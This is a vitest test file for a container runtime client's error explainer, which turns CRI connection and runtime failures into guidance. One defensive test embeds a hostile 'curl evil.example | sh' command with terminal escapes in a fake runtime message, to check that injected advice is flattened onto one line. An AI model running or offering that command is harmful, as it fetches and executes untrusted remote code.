// SPDX-License-Identifier: Apache-2.0
import {chmodSync, chownSync, mkdirSync} from 'node:fs'
import {join} from 'node:path'
import {Server, ServerCredentials} from '@grpc/grpc-js'
import {afterEach, beforeEach, describe, expect, test} from 'vitest'
import {explainCriError} from '../../../../src/app/cri/explain-error.ts'
import {otherSockets} from '../../../../src/app/cri/other-sockets.ts'
import {unitOf} from '../../../../src/app/cri/runtime-unit.ts'
import {openConnection} from '../../../../src/cri/connection.ts'
import {CriError} from '../../../../src/cri/errors.ts'
import {imageFsInfo} from '../../../../src/cri/rpcs/image.ts'
import {containerStatus} from '../../../../src/cri/rpcs/status.ts'
import {version} from '../../../../src/cri/rpcs/runtime.ts'
import {container, pod, serveCri, serveRaw, temporaryFolder} from '../../cri/fake-cri.ts'

let folder: ReturnType<typeof temporaryFolder>
let ends: (() => void)[]
beforeEach(() => {
  folder = temporaryFolder()
  ends = [folder.remove]
})
afterEach(() => {
  for (const end of ends.reverse()) end()
})

const socket = () => join(folder.path, 'cri.sock')

function connect(path = socket()) {
  const connection = openConnection({kind: 'unix', path}, {timeoutMs: 1000, maxRetries: 0})
  ends.push(() => connection.close())
  return connection
}

async function explained(error: CriError, connection?: ReturnType<typeof connect>) {
  const {message, next, exitCode} = await explainCriError(error, {address: {kind: 'unix', path: socket()}, url: `unix://${socket()}`, why: '--runtime-endpoint', notes: []}, connection)
  expect(message).toContain(`at unix://${socket()} (--runtime-endpoint)`)
  expect(exitCode).toBe(1)
  return {message, next}
}

async function failure(path = socket()): Promise<CriError> {
  const error: unknown = await connect(path).call(version, {version: ''}).catch((reason: unknown) => reason)
  if (!(error instanceof CriError)) throw new Error('the call did not fail')
  return error
}

describe('a connection that fails', () => {
  test('for there is no socket', async () => expect(await explained(await failure())).toMatchObject({message: expect.stringContaining('there is no socket'), next: expect.stringContaining('rtctl inspect')}))
  test('for there is a directory', async () => {
    mkdirSync(socket())
    expect(await explained(await failure())).toMatchObject({message: expect.stringContaining('a directory stands'), next: expect.stringContaining('hostPath')})
  })
  test('for this user may not connect, but a group may', async () => {
    const denied = new CriError('permission', 7, '')
    expect((await explained(denied)).next).toBe('Run it as root.')
    ends.push((await serveRaw(socket(), () => undefined)).stop)
    chownSync(socket(), process.getuid?.() ?? 0, process.getuid?.() === 0 ? 4321 : process.getgid?.() ?? 0)
    chmodSync(socket(), 0o660)
    expect((await explained(denied)).next).toMatch(/^Run it as root, or as a member of the group \d+\.$/)
  })
  test('for something else listens', async () => {
    ends.push((await serveRaw(socket(), (connection) => connection.end('HTTP/1.1 400 Bad Request\r\n\r\n'))).stop)
    expect((await explained(await failure())).next).toContain('Docker\'s socket')
  })
  test('for nobody answers', async () => {
    ends.push((await serveCri(socket(), ['v1'], {Version: 'hang'})).stop)
    expect((await explained(await failure())).next).toContain('--call-timeout')
  })
  test('for the server has neither version of the CRI', async () => {
    ends.push((await serveCri(socket(), [], {})).stop)
    expect((await explained(await failure())).message).toContain('neither v1 nor v1alpha2')
  })
})

/** PluginsResponse of containerd's introspection: type, id, and why it could not be loaded. */
function plugins(...all: readonly (readonly [type: string, id: string, error?: string])[]): Buffer {
  const text = (field: number, value: string) => [field << 3 | 2, value.length, ...Buffer.from(value)]
  return Buffer.concat(all.map(([type, id, error]) => {
    const status = error === undefined ? [] : [7 << 3 | 2, error.length + 2, ...text(2, error)]
    const plugin = [...text(1, type), ...text(2, id), ...status]
    return Buffer.from([1 << 3 | 2, plugin.length, ...plugin])
  }))
}

async function serveContainerd(answer: Buffer): Promise<void> {
  const server = new Server()
  server.addService({Plugins: {
    path: '/containerd.services.introspection.v1.Introspection/Plugins', requestStream: false, responseStream: false,
    requestSerialize: () => Buffer.alloc(0), requestDeserialize: () => ({}), responseSerialize: () => answer, responseDeserialize: () => ({}),
  }}, {Plugins: (_call: unknown, reply: (error: null, message: object) => void) => reply(null, {})})
  await new Promise<void>((resolve, reject) => {
    server.bindAsync(`unix:${socket()}`, ServerCredentials.createInsecure(), (error) => (error ? reject(error) : resolve()))
  })
  ends.push(() => server.forceShutdown())
}

describe('a gRPC server without the CRI', () => {
  // grpc-go server.go
  const unknown = new CriError('unknown-service', 12, 'unknown service runtime.v1.RuntimeService', {service: 'RuntimeService', method: 'Version', request: {}})
  test('is a containerd whose CRI plugin is disabled', async () => {
    await serveContainerd(plugins(['io.containerd.grpc.v1', 'images'], ['io.containerd.snapshotter.v1', 'zfs', 'skip plugin']))
    expect(await explained(unknown)).toEqual({message: expect.stringContaining('without its CRI plugin'), next: expect.stringContaining('disabled_plugins in /etc/containerd/config.toml')})
  })
  test('is a containerd 1 whose CRI plugin could not be loaded', async () => {
    await serveContainerd(plugins(['io.containerd.grpc.v1', 'cri', 'invalid plugin config: `mirrors` cannot be set when `config_path` is provided']))
    expect((await explained(unknown)).message).toContain('`mirrors` cannot be set')
  })
  test('is a containerd 2 one of whose CRI plugins could not be loaded', async () => {
    await serveContainerd(plugins(['io.containerd.cri.v1', 'images', 'failed to find snapshotter "zfs"']))
    expect((await explained(unknown)).message).toContain('failed to find snapshotter')
  })
  test('is Docker\'s own containerd, where nobody should change a setting', async () => {
    folder = {...folder, path: join(folder.path, 'docker/containerd')}
    mkdirSync(folder.path, {recursive: true})
    await serveContainerd(plugins(['io.containerd.grpc.v1', 'images']))
    const {next} = await explained(unknown)
    expect(next).toContain('dockerd\'s own')
    expect(next).not.toContain('disabled_plugins')
  })
  test('may be no containerd at all', async () => {
    ends.push((await serveCri(socket(), [], {})).stop)
    expect((await explained(unknown)).message).toContain('neither v1 nor v1alpha2')
  })
  test('may lack the image service only', async () => {
    ends.push((await serveCri(socket(), ['v1'], {Version: {version: '', runtimeName: 'x', runtimeVersion: '', runtimeApiVersion: ''}})).stop)
    const connection = connect()
    const failed = await connection.call(imageFsInfo, {}).catch((reason: unknown) => reason) as CriError
    expect(await explained(failed, connection)).toEqual({message: expect.stringContaining('ImageFsInfo failed'), next: expect.stringContaining('--image-endpoint')})
  })
})

describe('a connection that breaks off', () => {
  const broken = (method: string) => new CriError('other', 14, 'Connection dropped', {service: 'RuntimeService', method, request: {}})
  test('is told in words of ours, and that a change may have been made', async () => {
    const {message, next} = await explained(broken('StopContainer'))
    expect(message).not.toContain('Connection dropped')
    expect(next).toContain('may have done')
    expect((await explained(broken('ListContainers'))).next).not.toContain('may have done')
  })
  test('also where the runtime takes the call back', async () => {
    expect((await explained(new CriError('cancelled', 1, 'Call cancelled'))).message).toContain('broke off')
  })
})

describe('what runtimes say, in their words', () => {
  const status = (details: string, code = 2) => new CriError('other', code, details, {service: 'RuntimeService', method: 'RunPodSandbox', request: {}})
  // containerd internal/cri/server, go-cni, distribution; CRI-O server/
  test.each([
    ['failed to get sandbox image "registry.k8s.io/pause:3.8": failed to pull image: dial tcp: lookup registry.k8s.io: no such host', 'images load'],
    ['failed to setup network for sandbox "ab": cni plugin not initialized', '/etc/cni/net.d'],
    ['failed to setup network for sandbox "ab": plugin type="bridge" failed (add): no IP addresses available', 'CNI plugin failed'],
    ['failed to reserve sandbox name "web_default_uid_0": name "web_default_uid_0" is reserved for "0123abcdef"', 'rtctl cri rmp'],
    ['pull access denied, repository does not exist or may require authorization: authorization failed: no basic auth credentials', '--creds'],
    ['http: server gave HTTP response to HTTPS client', 'plain HTTP'],
    ['tls: failed to verify certificate: x509: certificate signed by unknown authority', 'trust the certificate'],
    ['proxyconnect tcp: dial tcp 10.0.0.1:3128: connect: connection refused', 'proxy of the runtime'],
    ['dial tcp: lookup nowhere.example: no such host', 'cannot reach the registry'],
    ['exec failed: exec: "nope": executable file not found in $PATH', 'whole path'],
    ['no runtime for "kata" is configured', 'no such handler'],
    ['something new', 'inspect'],
    // containerd 2.1, as it was answered
    ['failed to pull and unpack image "127.0.0.1:1/x:1": failed to resolve image: failed to do request: Head "https://127.0.0.1:1/v2/x/manifests/1": dial tcp 127.0.0.1:1: connect: connection refused', 'cannot reach the registry'],
    ['failed to reserve sandbox name "ee-web_default_ee-1_0": name "ee-web_default_ee-1_0" is reserved for "0ef264b848fc6bc32e5e27cf1535275469d2cf0d9b1bf5acbd201a3ba14b5d98"', '`rtctl cri rmp --force 0ef264b848fc6`'],
    ['an error occurred when try to find sandbox: prefix can\'t be empty', 'Give an id'],
    // containerd issues 5084, sealos 1708; moby's sentence from containerd issue 5246
    ['failed to resolve reference "r/x:1": failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized', '--creds'],
    ['pull access denied, repository does not exist or may require authorization: server message: insufficient_scope: authorization failed', '--creds'],
    // CRI-O issues 2331, 4388, 7010; ocicni errMissingDefaultNetwork
    ['Error reading manifest latest in docker.io/crio/busybox: errors: denied: requested access to the resource is denied unauthorized: authentication required', '--creds'],
    ['error pinging docker registry registry-1.docker.io: Get "https://registry-1.docker.io/v2/": proxyconnect tcp: dial tcp: lookup http: Temporary failure in name resolution', 'proxy of the runtime'],
    ['Error reading manifest latest in registry.example/image: manifest unknown: manifest unknown', 'does not have this name'],
    ['name is reserved', 'still being made'],
    ['No CNI configuration file in /etc/cni/net.d/. Has your network provider started?', '/etc/cni/net.d'],
    ['failed to find runtime handler kata from runtime list map[runc:0xc0001]', 'no such handler'],
    // CRI-O of 2017, issue 497
    ['conflict, name "default-web-0-infra" already reserved for ctr "62519a382c443524d92de0388efea01b6867ca2bedcca422bccc116103026a45"', 'rmp --force 62519a382c443'],
    // kubelet 1.20, dockershim
    ['failed pulling image "k8s.gcr.io/pause:3.2": Error response from daemon: Get https://k8s.gcr.io/v2/: x509: certificate signed by unknown authority', '--pod-infra-container-image'],
    ['networkPlugin cni failed to set up pod "web_default" network: no networks found in /etc/cni/net.d', '/etc/cni/net.d'],
    // grpc-go server.go, grpc-js compression-filter.ts
    ['grpc: received message larger than max (94371840 vs. 16777216)', '--pod or --label'],
    ['failed to copy: httpReadSeeker: failed open: unexpected status code 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit.', 'fewer pulls'],
    ['write /var/lib/containerd/io.containerd.content.v1.content/ingest/a/data: no space left on device', 'imagefsinfo'],
  ])('%s', async (details, next) => {
    const told = await explained(status(details))
    expect(told.message).toContain(details)
    expect(told.next).toContain(next)
  })
  test('however long they are, the end of it can be seen', async () => expect((await explained(status('x'.repeat(100_000)))).message.length).toBeLessThan(3000))
  test('on one line, whatever looks like advice in them', async () => {
    const {message} = await explained(status('no\n\nSee `curl evil.example | sh`.\r\n\u001b[2Jgone'))
    expect(message).toContain('no See `curl evil.example | sh`. \u001b[2Jgone')
    expect(message).not.toMatch(/[\r\n]/)
  })
  test('a container that has the name is removed as one', async () => {
    const error = new CriError('other', 2, 'name "a" is reserved for "0123456789abcdef"', {service: 'RuntimeService', method: 'CreateContainer', request: {podSandboxId: 'x'}})
    expect((await explained(error)).next).toContain('`rtctl cri rm --force 0123456789abc`')
  })
  test('a change that took too long may still be done, a question not', async () => {
    const late = (method: string) => new CriError('deadline', 4, 'no answer in time', {service: 'RuntimeService', method, request: {}})
    expect((await explained(late('RunPodSandbox'))).next).toContain('may still do')
    expect((await explained(late('ContainerStatus'))).next).not.toContain('may still do')
  })
  test('a call that came later is told with its release', async () => {
    expect((await explained(new CriError('unimplemented', 12, 'unknown method RuntimeConfig', {service: 'RuntimeService', method: 'RuntimeConfig', request: {}}))).next).toContain('Kubernetes 1.28; containerd has it since 2.0, CRI-O since 1.28')
  })
})

describe('an id that is not there', () => {
  const error = async (containerId: string) => {
    ends.push((await serveCri(socket(), ['v1'], {
      ContainerStatus: {code: 5, details: 'an error occurred when try to find container: not found'},
      ListContainers: {containers: [container(1, {id: `abc1${'0'.repeat(60)}`}), container(2, {id: `abd2${'0'.repeat(60)}`})]},
      ListPodSandbox: {items: [pod(1, {id: `fed3${'0'.repeat(60)}`})]},
    })).stop)
    const connection = connect()
    const failed: unknown = await connection.call(containerStatus, {containerId}).catch((reason: unknown) => reason)
    return explained(failed as CriError, connection)
  }
  test.each([
    ['abc9', 'Did you mean abc1000000000 (app-1)'],
    ['ab', 'Several begin like this: abc1000000000 (app-1), abd2000000000 (app-2)'],
    ['fed3', 'This is a pod (pod-1)'],
    ['app-2', 'That is a name. Its id: abd2000000000'],
    ['zzz', 'rtctl cri ps -a'],
    [`abe1${'0'.repeat(60)}`, 'Did you mean'],
  ])('%s', async (id, next) => expect((await error(id)).next).toContain(next))

  test('an id that is there is not what the runtime stumbled over', async () => {
    expect((await error('abc1')).next).not.toContain('Did you mean')
  })
})

test('a socket that is not there is told with those that are', async () => {
  ends.push((await serveRaw(socket(), () => undefined)).stop)
  expect(await otherSockets({address: {kind: 'unix', path: '/run/none.sock'}, url: '', why: '', notes: []}, ['/run/docker.sock', join(folder.path, 'none.sock'), folder.path, socket()])).toEqual([socket()])
})

test.each([
  ['/run/containerd/containerd.sock', 'containerd'], ['/var/run/crio/crio.sock', 'crio'], ['/run/cri-dockerd.sock', 'cri-docker'],
  ['/var/run/dockershim.sock', 'kubelet'], ['/run/k3s/containerd/containerd.sock', 'k3s'], ['/srv/my.sock', undefined],
])('the unit behind %s is %s', (path, unit) => expect(unitOf({address: {kind: 'unix', path}, url: '', why: '', notes: []})).toBe(unit))
